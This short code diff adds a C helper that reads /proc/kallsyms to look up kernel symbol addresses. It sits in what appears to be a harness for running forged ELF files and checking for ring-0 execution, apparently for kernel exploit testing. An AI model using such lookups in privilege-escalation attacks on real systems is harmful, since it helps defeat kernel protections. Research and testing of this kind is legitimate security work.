@@ -32,6 +32,23 @@ static inline Elf64_Ehdr *elf_header(void)
 	return (void *)file;
 }
 
+/* The address of a symbol of the kernel, for root */
+static inline unsigned long kernel_symbol(const char *wanted)
+{
+	FILE *symbols = fopen("/proc/kallsyms", "re");
+	char line[512], name[256], type;
+	unsigned long address = 0, found = 0;
+
+	while (symbols && !found && fgets(line, sizeof(line), symbols))
+		if (sscanf(line, "%lx %c %255s", &address, &type, name) == 3 &&
+		    !strcmp(name, wanted))
+			found = address;
+	if (symbols)
+		fclose(symbols);
+	CHECK(found >= 0xffffffff80000000);
+	return found;
+}
+
 /* Write what is in file[] and execute it: what happens, or "ran in ring 0" */
 static inline const char *forged_run(size_t size)
 {
